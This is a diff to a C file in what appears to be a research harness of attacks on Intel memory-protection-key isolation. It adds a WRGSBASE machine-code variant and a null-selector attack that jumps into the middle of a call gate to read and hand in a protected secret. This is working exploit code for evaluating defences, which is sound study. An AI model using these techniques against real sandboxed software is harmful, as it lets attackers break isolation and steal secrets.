@@ -8,6 +8,10 @@
  *
  * null-selector: no system call and no special instruction; the FS base becomes 0, which
  * no thread has, and then the domain is touched. (Undefended, the key is closed all the same.)
+ * null-selector-gate: the same, and then a jump into the middle of a gate, as in A1: the
+ * gate asks whose rights these are, and a record that is nobody's has no thread either.
+ *
+ * wrgsbase: what GS points to is nothing of ours, nor of the C library's.
  *
  * Source: [PKU Pitfalls], arch_prctl(2), modify_ldt(2), [SDM 2 WRFSBASE].
  */
@@ -21,6 +25,7 @@
 #include <sys/syscall.h>
 #include <unistd.h>
 #include "attack.h"
+#include "gatejump.h"
 #include "machinecode.h"
 #include "mpk.h"
 #include "naive.h"
@@ -58,9 +63,11 @@ static char *forged(void) {
 /* The instruction lies in code of its own, mapped before the policy as a library's is:
  * the other variants' program has none. */
 static const unsigned char wrfsbase_rdi[] = {0xf3, 0x48, 0x0f, 0xae, 0xd7, 0xc3};
+static const unsigned char wrgsbase_rdi[] = {0xf3, 0x48, 0x0f, 0xae, 0xdf, 0xc3};
 static void *code;
 
-static void map_code(void) { code = machinecode_map(wrfsbase_rdi, sizeof wrfsbase_rdi); }
+static void map_wrfsbase(void) { code = machinecode_map(wrfsbase_rdi, sizeof wrfsbase_rdi); }
+static void map_wrgsbase(void) { code = machinecode_map(wrgsbase_rdi, sizeof wrgsbase_rdi); }
 
 static int bent; /* a refused attack has no second part */
 
@@ -69,6 +76,13 @@ static void read_if_bent(void) {
 }
 
 static void wrfsbase(void) {
+    char *storage = forged();
+    TRY("mmap", storage ? 0 : -1);
+    ((void (*)(char *))(uintptr_t)code)(storage);
+    bent = 1;
+}
+
+static void wrgsbase(void) {
     char *storage = forged();
     TRY("mmap", storage ? 0 : -1);
     ((void (*)(char *))(uintptr_t)code)(storage);
@@ -135,7 +149,8 @@ static void as_host_thread(void) {
     TRY("raise", raise(SIGUSR1) ? -1 : 0);
 }
 
-/* Nothing that needs thread-local storage may run until the thread pointer is back. */
+/* Nothing that needs thread-local storage may run until the thread pointer is back. Where
+ * the call for that is refused, the word is handed in all the same. */
 static void null_selector(void) {
     uintptr_t own = fs_base(), word;
     __asm__ volatile("mov %[null], %%fs\n\tmovq (%[secret]), %[word]"
@@ -146,11 +161,28 @@ static void null_selector(void) {
     if (set_fs(own)) __asm__ volatile("syscall" : : "a"(SYS_exit_group), "D"(0) : "rcx", "r11", "memory");
 }
 
+static uintptr_t own_fs, word_behind;
+
+static void __attribute__((force_align_arg_pointer)) behind_the_gate(void) {
+    __asm__ volatile("movq (%1), %0" : "=r"(word_behind) : "r"(target.secret) : "memory");
+    attack_hand_in(&word_behind, sizeof word_behind);
+    set_fs(own_fs);
+    __asm__ volatile("syscall" : : "a"(SYS_exit_group), "D"(0) : "rcx", "r11", "memory");
+    __builtin_unreachable();
+}
+
+static void null_selector_gate(void) {
+    own_fs = fs_base();
+    gatejump(GATEJUMP_MATCHED, GATEJUMP_AS_NOBODY, behind_the_gate);
+}
+
 const struct attack attacks[] = {
-    {.variant = "wrfsbase", .prepare = map_code, .attack = wrfsbase, .again = read_if_bent},
+    {.variant = "wrfsbase", .prepare = map_wrfsbase, .attack = wrfsbase, .again = read_if_bent},
+    {.variant = "wrgsbase", .prepare = map_wrgsbase, .attack = wrgsbase, .again = read_if_bent, .flags = ATTACK_CONTROL},
     {.variant = "arch-prctl", .attack = by_arch_prctl, .again = read_if_bent},
     {.variant = "modify-ldt", .attack = by_modify_ldt, .again = read_if_bent},
     {.variant = "as-host-thread", .while_open = make_host_thread, .attack = as_host_thread, .flags = ATTACK_CONTROL},
     {.variant = "null-selector", .attack = null_selector, .flags = ATTACK_CONTROL},
+    {.variant = "null-selector-gate", .attack = null_selector_gate},
     {0},
 };
